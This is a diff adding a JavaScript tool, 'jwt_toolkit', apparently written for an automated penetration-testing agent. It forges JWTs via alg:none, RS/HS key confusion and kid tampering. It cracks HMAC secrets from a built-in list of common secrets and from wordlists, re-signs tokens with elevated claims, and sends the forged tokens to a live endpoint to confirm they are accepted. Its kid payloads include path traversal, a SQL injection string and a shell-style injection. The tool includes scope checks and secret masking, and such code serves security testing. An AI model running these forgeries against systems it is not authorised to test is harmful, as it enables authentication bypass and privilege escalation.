@@ -0,0 +1,595 @@
+/**
+ * jwt_toolkit MCP Tool
+ *
+ * JWT weakness helper for the auth agents: decodes tokens and flags risky
+ * headers/claims, forges `alg:none`, RS/HS key-confusion and `kid`-tampered
+ * variants, cracks weak HMAC secrets against built-in and local wordlists,
+ * and re-signs tokens with a recovered secret.
+ * With `test_url`, every variant is sent next to the original token and a
+ * tampered-signature control so that acceptance can be judged objectively;
+ * accepted variants are returned as ready-to-use `jwt_forgery` evidence items.
+ */
+
+import { tool } from '@anthropic-ai/claude-agent-sdk';
+import { z } from 'zod';
+import http from 'http';
+import https from 'https';
+import { constants as cryptoConstants, createHmac, createPublicKey, timingSafeEqual, verify as cryptoVerify } from 'crypto';
+import { createReadStream, existsSync, mkdirSync, writeFileSync } from 'fs';
+import readline from 'readline';
+import path from 'path';
+import { createToolResult } from '../types/tool-responses.js';
+import { createValidationError, createGenericError } from '../utils/error-formatter.js';
+import { isInTargetScope, createOutOfScopeError } from '../utils/target-scope.js';
+import { getTargetDir } from '../../../src/utils/context.js';
+
+const JWT_DIR = 'deliverables/findings/jwt';
+const MAX_BODY_EXCERPT = 200;
+const CRACK_YIELD_EVERY = 2000;
+const LONG_LIFETIME_SECONDS = 24 * 60 * 60;
+const PRIVILEGE_CLAIM_PATTERN = /^(role|roles|admin|is_?admin|scope|scp|permissions?|groups?|authorities|privileges?|tier|plan)$/i;
+const SECRET_CLAIM_PATTERN = /pass(word)?|secret|api_?key|private|ssn|credit|card/i;
+
+// Frequently shipped defaults and tutorial secrets
+const COMMON_SECRETS = Object.freeze([
+  'secret', 'secretkey', 'secret-key', 'secret_key', 'jwt_secret', 'jwt-secret', 'jwtsecret', 'JWT_SECRET',
+  'your-256-bit-secret', 'your-secret-key', 'your_jwt_secret', 'changeme', 'change-me', 'changeit',
+  'password', 'passw0rd', '123456', '12345678', 'admin', 'test', 'dev', 'development', 'key', 'private',
+  'mysecret', 'mysecretkey', 'supersecret', 'topsecret', 'default', 'token', 'auth', 'shhhhh', 'keyboard cat',
+  'secret123', 'qwerty', 'letmein', 's3cr3t', 'HS256', 'hmac', 'jwt', 'nodejs', 'express', 'django-insecure',
+]);
+
+// kid payloads that make the verification key predictable
+const DEFAULT_KID_PAYLOADS = Object.freeze([
+  { kid: '../../../../../../../../dev/null', key: '', note: 'path traversal to an empty file' },
+  { kid: '/dev/null', key: '', note: 'absolute path to an empty file' },
+  { kid: '../../../../../../../../proc/sys/kernel/randomize_va_space', key: '2\n', note: 'path traversal to a file with known content' },
+  { kid: "' UNION SELECT 'dokodemo'-- -", key: 'dokodemo', note: 'SQL injection returning a chosen key' },
+  { kid: 'dokodemo" || echo dokodemo', key: 'dokodemo', note: 'command-style lookup (rare)' },
+]);
+
+const HMAC_HASHES = Object.freeze({ HS256: 'sha256', HS384: 'sha384', HS512: 'sha512' });
+const ASYMMETRIC_TO_HMAC = Object.freeze({ RS256: 'HS256', RS384: 'HS384', RS512: 'HS512', PS256: 'HS256', PS384: 'HS384', PS512: 'HS512', ES256: 'HS256', ES384: 'HS384', ES512: 'HS512' });
+const VERIFY_HASHES = Object.freeze({ RS256: 'sha256', RS384: 'sha384', RS512: 'sha512', PS256: 'sha256', PS384: 'sha384', PS512: 'sha512', ES256: 'sha256', ES384: 'sha384', ES512: 'sha512' });
+
+export const JwtToolkitInputSchema = z.object({
+  action: z
+    .enum(['decode', 'none', 'key_confusion', 'crack', 'kid', 'sign'])
+    .describe('decode: parse + flag risky headers/claims; none: alg:none variants; key_confusion: RS/ES→HS signed with the public key; crack: HMAC secret search; kid: kid header tampering; sign: re-sign with a known secret'),
+  token: z.string().min(10).describe('The JWT (header.payload.signature)'),
+  claims: z.record(z.any()).optional().describe('Claim overrides applied to forged tokens (e.g. {"role":"admin"}); null removes a claim'),
+  public_key: z.string().optional().describe('key_confusion: server public key as PEM, JWK or JWKS JSON'),
+  wordlist_path: z.string().optional().describe('crack: local wordlist file (one secret per line; relative to the repo or absolute)'),
+  candidates: z.array(z.string()).max(500).optional().describe('crack: extra app-specific secret guesses (names from config, env examples)'),
+  max_seconds: z.number().int().min(1).max(300).default(60).describe('crack: time budget in seconds'),
+  secret: z.string().optional().describe('sign: HMAC secret (e.g. recovered by crack)'),
+  alg: z.enum(['HS256', 'HS384', 'HS512']).optional().describe('sign: HMAC algorithm (default: the token alg if HMAC, else HS256)'),
+  kid_payloads: z.array(z.object({ kid: z.string(), key: z.string() })).max(20).optional().describe('kid: custom kid values and the key each one should resolve to'),
+  test_url: z.string().url().optional().describe('Authenticated endpoint used to confirm acceptance (e.g. GET /api/me)'),
+  test_method: z.enum(['GET', 'POST', 'PUT', 'PATCH', 'DELETE']).default('GET').describe('HTTP method for test_url'),
+  test_body: z.string().optional().describe('Request body for test_url'),
+  token_location: z
+    .string()
+    .regex(/^(bearer|cookie:[^=;\s]+|header:[A-Za-z0-9-]+)$/)
+    .default('bearer')
+    .describe('Where the token is sent: bearer | cookie:<name> | header:<name>'),
+  headers: z.record(z.string()).optional().describe('Extra headers for test requests (e.g. other cookies, CSRF token)'),
+  timeout_ms: z.number().int().min(1000).max(60000).default(10000).describe('Per-request timeout in milliseconds'),
+  label: z.string().regex(/^[A-Za-z0-9_.-]+$/).max(60).optional().describe('Name used for the saved record (e.g. AUTH-VULN-03-none)'),
+});
+
+const base64url = (input) => Buffer.from(input).toString('base64url');
+
+/**
+ * [목적] JWT 문자열을 header/payload/signature로 분해.
+ *
+ * [반환값]
+ * - object|null: 형식이 올바르지 않으면 null
+ */
+function parseToken(token) {
+  const parts = token.trim().split('.');
+  if (parts.length !== 3) return null;
+  try {
+    const header = JSON.parse(Buffer.from(parts[0], 'base64url').toString('utf8'));
+    const payload = JSON.parse(Buffer.from(parts[1], 'base64url').toString('utf8'));
+    if (!header || typeof header !== 'object' || !payload || typeof payload !== 'object') return null;
+    return { header, payload, parts, signingInput: `${parts[0]}.${parts[1]}` };
+  } catch {
+    return null;
+  }
+}
+
+/**
+ * [목적] 클레임 덮어쓰기 적용 (null 값은 클레임 삭제).
+ */
+function applyClaims(payload, claims = {}) {
+  const next = { ...payload };
+  for (const [key, value] of Object.entries(claims)) {
+    if (value === null) delete next[key];
+    else next[key] = value;
+  }
+  return next;
+}
+
+const hmacSign = (alg, key, signingInput) => createHmac(HMAC_HASHES[alg], key).update(signingInput).digest('base64url');
+
+/**
+ * [목적] header/payload를 HMAC(또는 none)으로 서명해 JWT 생성.
+ */
+function encodeToken(header, payload, alg, key) {
+  const signingInput = `${base64url(JSON.stringify(header))}.${base64url(JSON.stringify(payload))}`;
+  if (!HMAC_HASHES[alg]) return `${signingInput}.`;
+  return `${signingInput}.${hmacSign(alg, key, signingInput)}`;
+}
+
+/**
+ * [목적] 헤더/클레임에서 위험 신호 추출 (decode 액션).
+ */
+function analyzeToken({ header, payload, parts }) {
+  const findings = [];
+  const now = Math.floor(Date.now() / 1000);
+  const alg = String(header.alg || '');
+
+  if (!alg || alg.toLowerCase() === 'none') findings.push({ id: 'unsigned_token', detail: `alg is "${alg || '(missing)'}"; the issuer emits unsigned tokens` });
+  if (alg && alg.toLowerCase() !== 'none' && !parts[2]) findings.push({ id: 'empty_signature', detail: 'signature segment is empty' });
+  if (HMAC_HASHES[alg]) findings.push({ id: 'hmac_algorithm', detail: `${alg} uses a shared secret; try action "crack"` });
+  if (ASYMMETRIC_TO_HMAC[alg]) findings.push({ id: 'asymmetric_algorithm', detail: `${alg}; if the public key is obtainable (JWKS, /.well-known, repo), try action "key_confusion"` });
+  if (header.kid !== undefined) {
+    const risky = /[./\\'"`;|$]/.test(String(header.kid));
+    findings.push({ id: 'kid_header', detail: `kid="${header.kid}"${risky ? ' contains path/SQL/shell metacharacters' : ''}; trace the key lookup and try action "kid"` });
+  }
+  for (const name of ['jku', 'x5u', 'jwk', 'x5c']) {
+    if (header[name] !== undefined) findings.push({ id: `${name}_header`, detail: `${name} header present; check whether the server fetches or trusts it` });
+  }
+  if (payload.exp === undefined) findings.push({ id: 'missing_exp', detail: 'no exp claim; the token never expires unless the server tracks it' });
+  else if (typeof payload.exp === 'number') {
+    if (payload.exp < now) findings.push({ id: 'expired', detail: `expired at ${new Date(payload.exp * 1000).toISOString()}; replay it to test expiry enforcement` });
+    const issued = typeof payload.iat === 'number' ? payload.iat : now;
+    if (payload.exp - issued > LONG_LIFETIME_SECONDS) findings.push({ id: 'long_lifetime', detail: `lifetime ${Math.round((payload.exp - issued) / 3600)}h` });
+  }
+  if (payload.aud === undefined) findings.push({ id: 'missing_aud', detail: 'no aud claim; tokens may be accepted across services' });
+  if (payload.iss === undefined) findings.push({ id: 'missing_iss', detail: 'no iss claim' });
+
+  const privilegeClaims = Object.keys(payload).filter(key => PRIVILEGE_CLAIM_PATTERN.test(key));
+  if (privilegeClaims.length > 0) findings.push({ id: 'privilege_claims', detail: `authorization data in the token: ${privilegeClaims.join(', ')}` });
+  const secretClaims = Object.keys(payload).filter(key => SECRET_CLAIM_PATTERN.test(key));
+  if (secretClaims.length > 0) findings.push({ id: 'sensitive_claims', detail: `sensitive data in a readable payload: ${secretClaims.join(', ')}` });
+
+  return findings;
+}
+
+/**
+ * [목적] PEM/JWK/JWKS 입력을 KeyObject 목록으로 변환.
+ */
+function loadPublicKeys(input, kid) {
+  const text = input.trim();
+  if (text.startsWith('-----BEGIN')) return [{ source: 'pem', key: createPublicKey(text), pem: input }];
+
+  const json = JSON.parse(text);
+  const jwks = Array.isArray(json.keys) ? json.keys : [json];
+  const selected = kid !== undefined && jwks.some(jwk => jwk.kid === kid) ? jwks.filter(jwk => jwk.kid === kid) : jwks;
+  return selected.map(jwk => ({ source: `jwk${jwk.kid ? `:${jwk.kid}` : ''}`, key: createPublicKey({ key: jwk, format: 'jwk' }), pem: null }));
+}
+
+/**
+ * [목적] 공개키 표현 변형(SPKI/PKCS#1 PEM, 개행 유무) 생성. 서버가 HMAC 키로 쓰는 바이트열을 맞히기 위함.
+ */
+function keyMaterialVariants(entry) {
+  const variants = new Map();
+  const add = (label, value) => { if (value && !variants.has(value)) variants.set(value, label); };
+  if (entry.pem) add(`${entry.source} as given`, entry.pem);
+  const spki = entry.key.export({ type: 'spki', format: 'pem' });
+  add('SPKI PEM', spki);
+  add('SPKI PEM without trailing newline', spki.trimEnd());
+  if (entry.key.asymmetricKeyType === 'rsa') {
+    const pkcs1 = entry.key.export({ type: 'pkcs1', format: 'pem' });
+    add('PKCS#1 PEM', pkcs1);
+    add('PKCS#1 PEM without trailing newline', pkcs1.trimEnd());
+  }
+  return [...variants.entries()].map(([material, label]) => ({ label, material }));
+}
+
+/**
+ * [목적] 원본 토큰 서명이 주어진 공개키로 검증되는지 확인 (올바른 키인지 판정).
+ */
+function verifiesWithKey(parsed, key) {
+  const hash = VERIFY_HASHES[parsed.header.alg];
+  if (!hash) return null;
+  const options = { key };
+  if (parsed.header.alg.startsWith('PS')) options.padding = cryptoConstants.RSA_PKCS1_PSS_PADDING;
+  if (parsed.header.alg.startsWith('ES')) options.dsaEncoding = 'ieee-p1363';
+  try {
+    return cryptoVerify(hash, Buffer.from(parsed.signingInput), options, Buffer.from(parsed.parts[2], 'base64url'));
+  } catch {
+    return false;
+  }
+}
+
+/**
+ * [목적] 내장 목록 → candidates → 워드리스트 순으로 HMAC 비밀키 탐색.
+ *
+ * [반환값]
+ * - Promise<object>: { secret, tried, seconds, exhausted, timed_out, source }
+ *
+ * [주의사항]
+ * - CRACK_YIELD_EVERY 회마다 이벤트 루프를 양보해 MCP 서버가 멈추지 않도록 함
+ */
+async function crackSecret(parsed, { candidates, wordlistPath, maxSeconds }) {
+  const alg = parsed.header.alg;
+  const expected = Buffer.from(parsed.parts[2], 'base64url');
+  const deadline = Date.now() + maxSeconds * 1000;
+  const started = Date.now();
+  let tried = 0;
+
+  const check = (secret) => {
+    tried += 1;
+    const actual = createHmac(HMAC_HASHES[alg], secret).update(parsed.signingInput).digest();
+    return actual.length === expected.length && timingSafeEqual(actual, expected);
+  };
+  const summary = (secret, source, timedOut) => ({
+    secret,
+    source,
+    tried,
+    seconds: Math.round((Date.now() - started) / 100) / 10,
+    exhausted: !secret && !timedOut,
+    timed_out: timedOut,
+  });
+
+  for (const [source, list] of [['builtin', COMMON_SECRETS], ['candidates', candidates]]) {
+    for (const secret of list) {
+      if (check(secret)) return summary(secret, source, false);
+    }
+  }
+
+  if (wordlistPath) {
+    const lines = readline.createInterface({ input: createReadStream(wordlistPath, 'utf8'), crlfDelay: Infinity });
+    try {
+      for await (const line of lines) {
+        if (line && check(line)) return summary(line, 'wordlist', false);
+        if (tried % CRACK_YIELD_EVERY === 0) {
+          if (Date.now() > deadline) return summary(null, null, true);
+          await new Promise(resolve => setImmediate(resolve));
+        }
+      }
+    } finally {
+      lines.close();
+    }
+  }
+  return summary(null, null, false);
+}
+
+/**
+ * [목적] 비밀키를 로그/증거용으로 마스킹.
+ */
+function maskSecret(secret) {
+  if (secret.length <= 2) return '*'.repeat(secret.length);
+  return `${secret[0]}${'*'.repeat(Math.min(secret.length - 2, 8))}${secret[secret.length - 1]}`;
+}
+
+/**
+ * [목적] token_location에 맞춰 토큰을 요청 헤더에 배치.
+ */
+function placeToken(headers, location, token) {
+  const next = { ...headers };
+  if (location === 'bearer') {
+    next.Authorization = `Bearer ${token}`;
+  } else if (location.startsWith('header:')) {
+    next[location.slice('header:'.length)] = token;
+  } else {
+    const name = location.slice('cookie:'.length);
+    const cookieKey = Object.keys(next).find(key => key.toLowerCase() === 'cookie');
+    const others = (cookieKey ? next[cookieKey] : '').split(';').map(s => s.trim()).filter(s => s && !s.startsWith(`${name}=`));
+    if (cookieKey) delete next[cookieKey];
+    next.Cookie = [...others, `${name}=${token}`].join('; ');
+  }
+  return next;
+}
+
+/**
+ * [목적] 단일 HTTP 요청 전송 후 상태/본문 요약 반환 (자체 서명 인증서 허용).
+ */
+function sendRequest(url, method, headers, body, timeoutMs) {
+  const client = url.protocol === 'https:' ? https : http;
+  return new Promise((resolve) => {
+    const req = client.request(url, {
+      method,
+      headers: {
+        Accept: '*/*',
+        'User-Agent': 'dokodemodoor-jwt/1.0',
+        ...headers,
+        ...(body ? { 'Content-Length': Buffer.byteLength(body) } : {}),
+      },
+      rejectUnauthorized: false,
+      timeout: timeoutMs,
+    }, (res) => {
+      const chunks = [];
+      res.on('data', chunk => chunks.push(chunk));
+      res.on('end', () => {
+        const text = Buffer.concat(chunks).toString('utf8');
+        resolve({ status: res.statusCode, length: text.length, body_excerpt: text.slice(0, MAX_BODY_EXCERPT), error: null });
+      });
+    });
+    req.on('timeout', () => req.destroy(new Error('request timeout')));
+    req.on('error', error => resolve({ status: null, length: 0, body_excerpt: '', error: error.message }));
+    req.end(body || undefined);
+  });
+}
+
+/**
+ * [목적] 원본/서명 변조 대조군/각 변형 토큰을 test_url에 보내 수락 여부 판정.
+ *
+ * [반환값]
+ * - Promise<object>: { baseline, control, signature_verified, results[] }
+ *
+ * [주의사항]
+ * - 변형이 "accepted"가 되려면 원본이 2xx/3xx이고 대조군이 거부되어야 하며, 변형 상태가 원본과 같아야 함
+ */
+async function testVariants(parsed, variants, options) {
+  const { url, method, body, location, headers, timeoutMs } = options;
+  const send = token => sendRequest(url, method, placeToken(headers, location, token), body, timeoutMs);
+
+  const tamperedSignature = parsed.parts[2]
+    ? `${parsed.signingInput}.${parsed.parts[2].slice(0, -4)}${parsed.parts[2].slice(-4) === 'AAAA' ? 'BBBB' : 'AAAA'}`
+    : `${parsed.signingInput}.AAAA`;
+  const baseline = await send(parsed.parts.join('.'));
+  const control = await send(tamperedSignature);
+  const baselineOk = baseline.status !== null && baseline.status < 400;
+  const signatureVerified = !(baselineOk && control.status === baseline.status);
+
+  const results = [];
+  for (const variant of variants) {
+    const response = await send(variant.token);
+    results.push({
+      ...variant,
+      response,
+      accepted: baselineOk && signatureVerified && response.status === baseline.status,
+    });
+  }
+  return { baseline, control, baseline_ok: baselineOk, signature_verified: signatureVerified, results };
+}
+
+/**
+ * [목적] JWT 디코드/위조/크랙/재서명 및 선택적 수락 테스트.
+ *
+ * [호출자]
+ * - MCP tool 호출 (jwt_toolkit) — auth-exploit 에이전트
+ *
+ * [출력 대상]
+ * - ToolResult 반환 + deliverables/findings/jwt/<label>-<ts>.json 저장 (decode 제외)
+ *
+ * [입력 파라미터]
+ * - args.action, args.token, args.claims, args.public_key, args.wordlist_path, args.candidates,
+ *   args.max_seconds, args.secret, args.alg, args.kid_payloads, args.test_url, args.test_method,
+ *   args.test_body, args.token_location, args.headers, args.timeout_ms, args.label
+ *
+ * [반환값]
+ * - Promise<object>: 변형 토큰 목록, 테스트 결과, 수락된 변형의 evidence 항목(type: jwt_forgery)
+ *
+ * [에러 처리]
+ * - 형식 오류/필수 입력 누락 → ValidationError
+ * - test_url이 타겟 범위 밖이면 SecurityError
+ *
+ * [주의사항]
+ * - 크랙된 비밀키는 응답에만 원문으로 포함하고 저장 파일/evidence에는 마스킹
+ */
+export async function jwtToolkit(args) {
+  try {
+    const {
+      action,
+      token,
+      claims = {},
+      public_key: publicKey,
+      wordlist_path: rawWordlistPath,
+      candidates = [],
+      max_seconds: maxSeconds = 60,
+      secret,
+      alg: signAlg,
+      kid_payloads: kidPayloads,
+      test_url: testUrl,
+      test_method: testMethod = 'GET',
+      test_body: testBody,
+      token_location: tokenLocation = 'bearer',
+      headers = {},
+      timeout_ms: timeoutMs = 10000,
+      label,
+    } = args;
+
+    const parsed = parseToken(token);
+    if (!parsed) {
+      return createToolResult(createValidationError('token is not a JWS compact token (header.payload.signature with JSON header/payload). JWE (5 segments) is not supported.', false));
+    }
+    const originalAlg = String(parsed.header.alg || '');
+
+    if (action === 'decode') {
+      return createToolResult({
+        status: 'success',
+        message: `Decoded ${originalAlg || 'unsigned'} token`,
+        header: parsed.header,
+        payload: parsed.payload,
+        signature_length: Buffer.from(parsed.parts[2], 'base64url').length,
+        findings: analyzeToken(parsed),
+      });
+    }
+
+    let parsedTestUrl = null;
+    if (testUrl) {
+      parsedTestUrl = new URL(testUrl);
+      if (!['http:', 'https:'].includes(parsedTestUrl.protocol)) {
+        return createToolResult(createValidationError(`Unsupported protocol: ${parsedTestUrl.protocol}`, false));
+      }
+      if (!isInTargetScope(parsedTestUrl.hostname)) {
+        return createToolResult(createOutOfScopeError(parsedTestUrl.hostname));
+      }
+    }
+
+    const targetDir = getTargetDir();
+    const forgedPayload = applyClaims(parsed.payload, claims);
+    let weakness = action;
+    let variants = [];
+    let crack = null;
+    let keyCheck = null;
+
+    if (action === 'none') {
+      weakness = 'alg_none_accepted';
+      variants = ['none', 'None', 'NONE', 'nOnE'].map(value => ({
+        label: `alg=${value}`,
+        token: encodeToken({ ...parsed.header, alg: value }, forgedPayload, value, null),
+      }));
+      variants.push({ label: 'alg=none without trailing dot', token: variants[0].token.slice(0, -1) });
+    } else if (action === 'key_confusion') {
+      weakness = 'rs_hs_key_confusion';
+      const hmacAlg = ASYMMETRIC_TO_HMAC[originalAlg];
+      if (!hmacAlg) {
+        return createToolResult(createValidationError(`key_confusion needs an RS/PS/ES token; this token uses ${originalAlg || 'no alg'}`, false));
+      }
+      if (!publicKey) {
+        return createToolResult(createValidationError('public_key (PEM, JWK or JWKS JSON) is required for key_confusion', false));
+      }
+      let keys;
+      try {
+        keys = loadPublicKeys(publicKey, parsed.header.kid);
+      } catch (error) {
+        return createToolResult(createValidationError(`public_key could not be parsed: ${error.message}`, false));
+      }
+      keyCheck = keys.map(entry => ({ source: entry.source, verifies_original: verifiesWithKey(parsed, entry.key) }));
+      const usable = keys.filter((entry, index) => keyCheck[index].verifies_original !== false);
+      for (const entry of (usable.length > 0 ? usable : keys)) {
+        for (const { label: materialLabel, material } of keyMaterialVariants(entry)) {
+          variants.push({
+            label: `${hmacAlg} with ${materialLabel}`,
+            token: encodeToken({ ...parsed.header, alg: hmacAlg }, forgedPayload, hmacAlg, material),
+          });
+        }
+      }
+    } else if (action === 'crack') {
+      weakness = 'weak_hmac_secret';
+      if (!HMAC_HASHES[originalAlg]) {
+        return createToolResult(createValidationError(`crack needs an HS256/384/512 token; this token uses ${originalAlg || 'no alg'}`, false));
+      }
+      let wordlistPath = null;
+      if (rawWordlistPath) {
+        wordlistPath = path.isAbsolute(rawWordlistPath) ? rawWordlistPath : path.join(targetDir, rawWordlistPath);
+        if (!existsSync(wordlistPath)) {
+          return createToolResult(createValidationError(`wordlist not found: ${rawWordlistPath}`, false));
+        }
+      }
+      crack = await crackSecret(parsed, { candidates, wordlistPath, maxSeconds });
+      if (crack.secret != null && Object.keys(claims).length > 0) {
+        variants.push({
+          label: `${originalAlg} re-signed with the recovered secret`,
+          token: encodeToken(parsed.header, forgedPayload, originalAlg, crack.secret),
+        });
+      }
+    } else if (action === 'kid') {
+      weakness = 'kid_injection';
+      const payloads = kidPayloads && kidPayloads.length > 0 ? kidPayloads : DEFAULT_KID_PAYLOADS;
+      variants = payloads.map(({ kid, key, note }) => ({
+        label: `kid=${kid}${note ? ` (${note})` : ''}`,
+        token: encodeToken({ ...parsed.header, alg: 'HS256', kid }, forgedPayload, 'HS256', key),
+      }));
+    } else if (action === 'sign') {
+      weakness = 'resigned_with_known_secret';
+      if (secret === undefined) {
+        return createToolResult(createValidationError('secret is required for sign', false));
+      }
+      const alg = signAlg || (HMAC_HASHES[originalAlg] ? originalAlg : 'HS256');
+      variants = [{ label: `${alg} with the supplied secret`, token: encodeToken({ ...parsed.header, alg }, forgedPayload, alg, secret) }];
+    }
+
+    const test = parsedTestUrl && variants.length > 0
+      ? await testVariants(parsed, variants, { url: parsedTestUrl, method: testMethod, body: testBody, location: tokenLocation, headers, timeoutMs })
+      : null;
+    const accepted = test ? test.results.filter(result => result.accepted) : [];
+    const crackedMasked = crack?.secret != null ? maskSecret(crack.secret) : null;
+
+    const fileName = `${label || `jwt-${action}`}-${Date.now()}.json`;
+    const savedPath = path.join(targetDir, JWT_DIR, fileName);
+    const relativePath = path.relative(targetDir, savedPath);
+    const record = {
+      generated_at: new Date().toISOString(),
+      action,
+      weakness,
+      original: { header: parsed.header, payload: parsed.payload },
+      claim_overrides: claims,
+      key_check: keyCheck,
+      crack: crack ? { ...crack, secret: crackedMasked } : null,
+      test: test ? { url: parsedTestUrl.href, method: testMethod, token_location: tokenLocation, ...test } : null,
+      variants: test ? undefined : variants,
+    };
+    mkdirSync(path.dirname(savedPath), { recursive: true });
+    writeFileSync(savedPath, JSON.stringify(record, null, 2), 'utf8');
+
+    const evidence = accepted.map(result => ({
+      type: 'jwt_forgery',
+      description: `${weakness}: forged token (${result.label}) accepted by ${testMethod} ${parsedTestUrl.href}`,
+      weakness,
+      original_alg: originalAlg,
+      forged_header: JSON.parse(Buffer.from(result.token.split('.')[0], 'base64url').toString('utf8')),
+      claim_overrides: claims,
+      token_location: tokenLocation,
+      baseline_status: test.baseline.status,
+      control_status: test.control.status,
+      forged_status: result.response.status,
+      ...(crackedMasked ? { recovered_secret: crackedMasked } : {}),
+      saved_path: relativePath,
+    }));
+    if (crackedMasked && accepted.length === 0) {
+      evidence.push({
+        type: 'jwt_forgery',
+        description: `weak_hmac_secret: ${originalAlg} signature of the captured token reproduced with a guessable secret`,
+        weakness,
+        original_alg: originalAlg,
+        recovered_secret: crackedMasked,
+        saved_path: relativePath,
+      });
+    }
+
+    let message;
+    if (action === 'crack') {
+      message = crack.secret != null
+        ? `Secret recovered after ${crack.tried} guesses (${crack.source})`
+        : `No secret found after ${crack.tried} guesses${crack.timed_out ? ' (time budget reached)' : ''}`;
+    } else {
+      message = `Generated ${variants.length} ${weakness} variant(s)`;
+    }
+    if (test) {
+      message += test.baseline_ok
+        ? `; ${accepted.length}/${variants.length} accepted${test.signature_verified ? '' : ' — WARNING: tampered-signature control was also accepted (signature not verified)'}`
+        : `; baseline token was rejected (HTTP ${test.baseline.status ?? test.baseline.error}) so acceptance cannot be judged`;
+    }
+
+    return createToolResult({
+      status: 'success',
+      message,
+      weakness,
+      original_alg: originalAlg,
+      ...(keyCheck ? { key_check: keyCheck } : {}),
+      ...(crack ? { crack } : {}),
+      variants: test
+        ? test.results.map(({ label: variantLabel, token: variantToken, response, accepted: ok }) => ({ label: variantLabel, token: variantToken, status: response.status, accepted: ok }))
+        : variants,
+      ...(test ? {
+        test: {
+          url: parsedTestUrl.href,
+          baseline: test.baseline,
+          control: test.control,
+          signature_verified: test.signature_verified,
+        },
+      } : {}),
+      evidence,
+      saved_path: relativePath,
+    });
+  } catch (error) {
+    return createToolResult(createGenericError(error, false));
+  }
+}
+
+/**
+ * Tool definition for MCP server - created using SDK's tool() function
+ */
+export const jwtToolkitTool = tool(
+  'jwt_toolkit',
+  'JWT weakness helper: decode and flag risky headers/claims, forge alg:none, RS/HS key-confusion and kid-tampered tokens, crack weak HMAC secrets (built-in list + local wordlist), re-sign with a known secret. With test_url, confirms acceptance against the original token and a tampered-signature control and returns jwt_forgery evidence items.',
+  JwtToolkitInputSchema.shape,
+  jwtToolkit
+);